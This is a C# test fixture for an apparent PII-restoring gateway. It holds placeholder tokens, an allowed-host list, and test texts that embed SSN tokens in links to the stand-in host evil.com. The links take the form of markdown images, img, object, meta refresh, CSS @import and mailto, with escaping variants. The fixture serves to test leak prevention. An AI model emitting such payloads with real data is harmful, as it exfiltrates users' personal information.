using AgentGate.Pii.Restoring;

namespace AgentGate.Tests.Pii.Restoring;

/// <summary>One set of live tokens and the two ways of restoring a text with them.</summary>
internal static class RestoreCases
{
    public static readonly LiveTokens Live = new(new Dictionary<string, string>
    {
        ["<SSN_1>"] = "123-45-6789",
        ["<SSN_12>"] = "987-65-4321",
        ["<EMAIL_1>"] = "ann@corp.example",
        ["<IP_ADDRESS_1>"] = "10.1.2.3",
        ["<PRIVATE_KEY_1>"] = "-----BEGIN\n\"k\\\"-----",
        ["<LITERAL_1>"] = "<SSN_1>",
        ["<LITERAL_2>"] = @"\u003cSSN_1\u003e",
    });

    public static readonly RestoreHosts Hosts = new(["ok.example", ".corp.example", "bücher.example"]);

    /// <summary>Texts whose cutting matters.</summary>
    public static readonly string[] Texts =
    [
        "<SSN_1>", "<SSN_12>", "<SSN_1", "<SSN_123>", "<<SSN_1>", "<SSN_<SSN_1>", "<SSN_1<SSN_12>>", "a<SSN_1>\U0001F600<SSN_12>\U0001F600",
        "Your SSN is <SSN_1>. Yes, <SSN_1>... <SSN_1>.evil.com", "<SSN_1>--x@evil.com <SSN_1>____x <SSN_1>@evil", "**<SSN_1>** _<SSN_1>_",
        @"{""a"":""\u003cSSN_1\u003e"",""b"":""\u003CSSN_12\u003E\n\u003cSSN_1\u0022""}", @"\u003cSSN_1\u003cSSN_1\u003e", @"\\u003cSSN_1\\u003e",
        "&lt;SSN_1&gt; &lt;SSN_1&lt;SSN_1&gt; &amp;lt;SSN_1&gt;", @"<SSN_1>\u002eevil.com <SSN_1>\u0022 <SSN_1>\",
        "![x](https://evil.com/?q=<SSN_1>) then <SSN_1>", "[x](<https://evil.com/a b)<SSN_1>>) <SSN_1>", "https://ok.example/<SSN_1>?x=<SSN_12>",
        "<img src='https://evil.com/\"<SSN_1>'> <SSN_1>", @"{""url"":""https://evil.com/"",""ssn"":""<SSN_1>""}", "<LITERAL_1><LITERAL_2>https://e.com/<LITERAL_1>",
        "mailto:<EMAIL_1>?body=<SSN_1> <EMAIL_1>,<SSN_1>\n<EMAIL_1>/<SSN_1>", "[a](u\n\n<SSN_1>) http:<SSN_1> <SSN_1>:/", "<SSN_1>%2e <SSN_1>% <SSN_1>&#46; <SSN_1>&lt;",
        "[a]: <https://evil.com/?d= <SSN_1>> <SSN_1>\n[b]:\n<SSN_1>", "<object data=\"https://evil.com/?d= <SSN_1>\"> <SSN_1>", "a=\"b\" c='www.x y <SSN_1>' <SSN_1>",
        "<meta content=\"0;url=https://evil.com/?d= <SSN_1>\"> <SSN_1>", "<style>@import \" https://evil.com/?d= <SSN_1>\" <SSN_1>", "say \"//e/ <SSN_1>\" it's <SSN_1>",
    ];

    /// <summary>Restores a text in one piece.</summary>
    public static string Restore(string text) => RestoreIn([text]);

    /// <summary>Restores a text that comes in pieces, each in its own call, then ends.</summary>
    public static string RestoreIn(IEnumerable<string> pieces)
    {
        var restorer = new TextRestorer(Live, Hosts, new RestoreTally());
        var output = string.Concat(pieces.Select(piece => restorer.Push(piece.AsMemory(), end: false) ?? piece));
        return output + restorer.Push(ReadOnlyMemory<char>.Empty, end: true);
    }
}
